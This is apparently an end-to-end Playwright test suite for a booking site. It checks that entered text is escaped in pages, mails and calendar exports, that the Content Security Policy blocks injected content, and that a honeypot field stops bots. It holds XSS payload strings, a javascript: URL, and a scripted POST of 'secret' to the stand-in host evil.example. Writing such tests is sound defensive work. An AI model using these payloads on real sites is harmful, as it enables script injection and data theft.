import type { Page } from "@playwright/test";
import ICAL from "ical.js";
import { newAccount } from "./account";
import { expect, test } from "./fixtures";

/** Runs if it is ever taken for HTML; the marks around it are those of a template. */
const evil = (where: string) => `{{clientEmail}}"'><img src=x onerror="document.body.dataset.ran='${where}'">`;
const hostileOffer = {
  title: evil("title"),
  description: evil("text"),
  location: "javascript:document.body.dataset.ran=1",
};

/** Nothing of it became an element, and nothing ran. */
async function expectText(page: Page, ...words: string[]): Promise<void> {
  for (const text of words) await expect(page.getByText(text).first()).toBeVisible();
  expect(await page.locator("img[src=x], a[href^=javascript], [data-ran]").count()).toBe(0);
}

test("whatever is typed stays text: on the pages, in the mails, in the calendar file and links", async ({
  page,
  sandbox,
  newOffer,
  visitElsewhere,
}) => {
  const account = await newAccount(page, sandbox, {});
  const offer = await newOffer({ ...hostileOffer, account });
  const client = await visitElsewhere(offer);
  await client.open();
  await expectText(client.page, offer.title, offer.description, offer.location);
  await client.chooseTime("9:00 AM");
  await client.fillIn({ ...offer.client, firstName: evil("first"), lastName: evil("last") });
  await client.book();
  await client.expectBooked();
  await expectText(client.page, offer.title, offer.location);

  const google = new URL((await client.page.getByRole("link", { name: /^Google/ }).getAttribute("href")) ?? "");
  expect(google.origin).toBe("https://calendar.google.com");
  expect(google.searchParams.get("text")).toBe(`${offer.title} with Demo Teacher`);
  expect(google.searchParams.get("location")).toBe(offer.location);
  const file = await (
    await fetch((await client.page.getByRole("link", { name: "Calendar file" }).getAttribute("href")) ?? "")
  ).text();
  const events = new ICAL.Component(ICAL.parse(file)).getAllSubcomponents("vevent");
  expect(events.map((event) => new ICAL.Event(event).summary)).toEqual([`${offer.title} with Demo Teacher`]);

  for (const { email } of [offer.client, offer.professional]) {
    const confirmations = async () =>
      (await sandbox.mailsTo(email)).filter(({ attachments }) => attachments.length > 0);
    await expect.poll(confirmations).toHaveLength(1);
    const [mail] = await confirmations();
    expect(mail?.html).not.toMatch(/<img src=x|href="javascript/);
    expect(mail?.subject + (mail?.text ?? "")).toContain(offer.title);
  }

  await page.goto(`/${offer.professional.profileSlug}`);
  await expectText(page, offer.title, offer.location);
  await page.goto(`/${offer.professional.profileSlug}/bookings`);
  await page.locator("[data-booking]").first().click();
  const panel = page.getByRole("complementary", { name: "Booking" });
  await expect(panel.getByRole("heading", { level: 2 })).toHaveText(`${evil("first")} ${evil("last")}`);
  await expectText(page);
});

test("what gets into a page all the same cannot run, load or send anything", async ({ guard, newOffer, page }) => {
  const { slug } = await newOffer();
  guard.allow(/Content.Security.Policy/i, /violates the following/, /evil\.example/);
  for (const path of [`/book/${slug}`, "/booking/cancel.html", "/booking/edit.html"]) {
    await page.goto(path);
    const breaches = page.evaluate(async () => {
      const found = new Set<string>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => found.add(effectiveDirective));
      const script = document.createElement("script");
      script.textContent = "document.body.dataset.ran = 1";
      const foreign = Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" });
      const image = Object.assign(document.createElement("img"), { src: "https://evil.example/pixel.png" });
      const frame = Object.assign(document.createElement("iframe"), { src: "https://evil.example/" });
      const inner = document.createElement("div");
      inner.innerHTML = `<p style="position:fixed" onclick="document.body.dataset.ran = 1">x</p>`;
      document.body.append(script, foreign, image, frame, inner);
      inner.querySelector("p")?.click();
      await fetch("https://evil.example/", { method: "POST", body: "secret" }).catch(() => {});
      while (found.size < 6) await new Promise((resolve) => setTimeout(resolve, 10));
      return [...found].sort();
    });
    expect(await breaches, path).toEqual(
      ["connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem", "style-src-attr"].sort(),
    );
    expect(await page.locator("[data-ran]").count()).toBe(0);
  }
});

test("a robot that fills in what nobody sees is told so and books nothing", async ({
  guard,
  newOffer,
  sandbox,
  visit,
}) => {
  guard.allow(/bookingMutations:book/);
  const client = visit(await newOffer());
  const { page, offer } = client;
  await client.openForm();
  await client.fillIn();
  const hidden = page.locator("input[name=website]");
  await expect(page.getByRole("textbox")).toHaveCount(4);
  for (const box of await page.getByRole("textbox").all()) expect(await box.getAttribute("name")).not.toBe("website");
  await hidden.evaluate((input: HTMLInputElement) => {
    input.value = "https://example.com";
  });
  await client.book();
  await expect(client.notice).toContainText("Please reload the page and book again.");
  expect(await sandbox.backstage("bookingsOf", offer.slug)).toEqual([]);
  await page.reload();
  await client.expectFilledIn();
  await client.book();
  await client.expectBooked();
});
